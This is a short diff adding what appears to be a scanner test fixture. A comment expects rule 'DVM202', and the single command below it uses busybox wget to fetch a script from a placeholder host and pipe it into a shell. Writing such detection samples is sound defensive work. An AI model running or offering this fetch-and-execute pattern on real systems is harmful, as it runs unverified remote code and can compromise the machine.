@@ -1,0 +1,2 @@
+# expect: DVM202
+busybox wget -qO- https://example.org/i.sh | busybox sh
